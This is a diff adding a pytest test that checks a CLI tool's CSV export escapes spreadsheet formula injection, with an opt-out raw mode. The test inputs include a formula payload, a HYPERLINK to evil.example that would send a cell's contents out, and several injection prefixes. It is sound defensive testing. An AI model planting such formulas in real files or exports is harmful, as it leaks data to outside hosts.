@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
 import os
 import shutil
 import signal
 import time
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -71,3 +74,36 @@ def test_a_killed_import_leaves_no_process_behind(cli: Cli, new_case, photo_fact
         with contextlib.suppress(ProcessLookupError):
             os.killpg(process.pid, signal.SIGKILL)
         process.communicate()
+
+
+def _package_csv(package: Path, name: str) -> list[dict[str, str]]:
+    with zipfile.ZipFile(package) as zf:
+        text = zf.read(f"data/{name}").decode("utf-8")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_unless_raw(
+        cli: Cli, new_case, photo_factory, tmp_path):
+    case = new_case()
+    cli("import", case, photo_factory())
+    item = cli("list", case, "--json").json()["evidence"][0]["id"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    incident = cli("incident", "add", case, "--title", formula, "--lat", "-12.5", "--lon",
+                   "37.1", "--description=-2+3", "--json").json()["id"]
+    notes = ["@SUM(1+1)", "+1", "\tcmd", "\rcmd", "plain - text", "a=b"]
+    for note in notes:
+        cli("tag", case, item, "--label", "crater", "--box", "10,10,50,40", "--incident",
+            incident, f"--note={note}")
+
+    cli("export", case, tmp_path / "safe.zip")
+    [row] = _package_csv(tmp_path / "safe.zip", "incidents.csv")
+    assert row["title"] == "'" + formula and row["description"] == "'-2+3"
+    assert row["lat"] == "-12.5" and row["lon"] == "37.1"   # numbers stay numbers
+    written = sorted(r["note"] for r in _package_csv(tmp_path / "safe.zip", "regions.csv"))
+    assert written == sorted(["'@SUM(1+1)", "'+1", "'\tcmd", "'\rcmd", "plain - text", "a=b"])
+
+    cli("export", case, tmp_path / "raw.zip", "--raw-csv")
+    [raw] = _package_csv(tmp_path / "raw.zip", "incidents.csv")
+    assert raw["title"] == formula and raw["description"] == "-2+3"
+    assert sorted(r["note"] for r in _package_csv(tmp_path / "raw.zip", "regions.csv")) \
+        == sorted(notes)
